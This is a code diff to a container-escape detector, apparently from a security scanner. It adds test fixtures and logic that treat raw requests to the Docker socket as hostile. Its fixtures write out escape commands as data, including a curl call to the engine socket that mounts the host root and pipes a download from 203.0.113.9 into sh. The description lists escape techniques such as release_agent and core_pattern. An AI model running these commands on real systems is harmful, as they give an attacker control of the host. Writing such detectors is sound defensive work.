@@ -1,6 +1,6 @@
 import type { EscapeEffect } from '../trace/effect.ts';
 import type { Story } from '../trace/story.ts';
-import { render } from '../trace/value.ts';
+import { render, textOf } from '../trace/value.ts';
 import type { Detector, Scene } from './detector.ts';
 import { effectsOf } from './effects-of.ts';
 import { reachesHost } from './host.ts';
@@ -11,14 +11,15 @@ import { valueWords } from './wording.ts';
 /** Code that steps out of its container. */
 export const hostEscape: Detector = {
   id: 'host-escape',
-  version: 2,
+  version: 3,
   title: 'Leaves the container for the host.',
   attack: ['T1611'],
   description: `
 \`nsenter -t 1\`, \`chroot /host\`, the engine's socket, a privileged container with the host's root mounted, a raw disk:
 with the rights they need, each makes the container the host. Node agents, backup and monitoring tools do the same openly,
 so by itself it is *suspicious*. It is *malicious* together with a payload: what runs on the other side is a shell on a
-socket, a download, a miner or hidden code. \`release_agent\`, a piped \`core_pattern\`, \`uevent_helper\`, another
+socket, a download, a miner or hidden code, or a container with the host's files or rights is made by a bare request to
+the engine's socket, past every client. \`release_agent\`, a piped \`core_pattern\`, \`uevent_helper\`, another
 \`modprobe\` and opening the control group's device list are exploits and have no honest use at a container's start.
 `,
   fires: [
@@ -53,6 +54,16 @@ socket, a download, a miner or hidden code. \`release_agent\`, a piped \`core_pa
           'sh',
           '-c',
           `curl -s --unix-socket /var/run/docker.sock -d '{"Image":"alpine","Cmd":["chroot","/mnt","sh","-c","wget -qO- http://203.0.113.9/x | sh"],"HostConfig":{"Binds":["/:/mnt"],"Privileged":true}}' http://localhost/containers/create`,
+        ],
+      },
+    },
+    {
+      name: 'the same without anything that is known to be bad in it',
+      image: {
+        cmd: [
+          'sh',
+          '-c',
+          `curl -s --unix-socket /var/run/docker.sock -d '{"Image":"alpine","Cmd":["chroot","/h","sh"],"HostConfig":{"Binds":["/:/h"]}}' http://localhost/containers/create; exec app`,
         ],
       },
     },
@@ -102,6 +113,25 @@ socket, a download, a miner or hidden code. \`release_agent\`, a piped \`core_pa
         ],
       },
     },
+    {
+      name: 'a container of its own over the engine’s socket',
+      severity: 'suspicious',
+      image: {
+        cmd: [
+          'sh',
+          '-c',
+          `curl -s --unix-socket /var/run/docker.sock -d '{"Image":"app","HostConfig":{"Binds":["/srv/data:/data"]}}' http://localhost/containers/create; exec app`,
+        ],
+      },
+    },
+    {
+      name: 'the working folder given to a build',
+      image: { cmd: ['sh', '-c', 'docker run --rm -v "$PWD:/src" -v "$CACHE:/cache" -w /src golang go test ./...'] },
+    },
+    {
+      name: 'no program at all for new devices',
+      image: { cmd: ['sh', '-c', 'echo > /sys/kernel/uevent_helper; exec app'] },
+    },
     { name: 'a container engine', image: { cmd: ['sh', '-c', 'docker run --rm -v /data:/data app; exec dockerd'] } },
     {
       name: 'a node exporter',
@@ -122,23 +152,35 @@ socket, a download, a miner or hidden code. \`release_agent\`, a piped \`core_pa
     return effectsOf(scene, 'escape').flatMap((effect) => {
       const sighting = sightingOf(scene, effect);
       if (effect.how === 'chroot' && !reachesHost(effect.outside)) return [];
+      // Nothing written there takes a helper away.
+      if (callOuts.has(effect.how) && textOf(effect.detail)?.trim() === '') return [];
       const payload = innerStages(scene, effect)
         .map((stage) => payloadOf(scene, stage))
         .find((each) => each !== undefined);
       const exploit = isExploit(effect);
+      const requested = effect.how === 'privileged-run' && isRawRequest(sighting.command?.name);
       return findingOf(scene, sighting, {
-        threat: payload || exploit ? 'hostile' : effect.how === 'unshare' ? 'minor' : 'dual-use',
+        threat: payload || exploit || requested ? 'hostile' : effect.how === 'unshare' ? 'minor' : 'dual-use',
         title: `${titles[effect.how]} (${valueWords(effect.detail, 100)})${payload ? ` to run ${payload.what}` : ''}`,
         because: payload
           ? `It leaves the container in order to run ${payload.what}.`
           : exploit
             ? 'This is an exploit: it has no use at the start of a container.'
-            : 'Node agents and debugging tools do this openly; so do attackers.',
+            : requested
+              ? 'It asks the engine itself for the host’s files or rights, past every client.'
+              : 'Node agents and debugging tools do this openly; so do attackers.',
         effects: [effect.id],
       });
     });
   },
 };
+
+const callOuts = new Set<EscapeEffect['how']>(['release-agent', 'uevent-helper', 'modprobe-path']);
+
+/** A container asked for in the engine's own protocol, by a client for any server. */
+function isRawRequest(tool: string | undefined): boolean {
+  return tool === 'curl' || tool === 'wget';
+}
 
 /** Call-outs of the kernel have one use in a container; binary formats and a core pattern of the distribution have others. */
 function isExploit(effect: EscapeEffect): boolean {
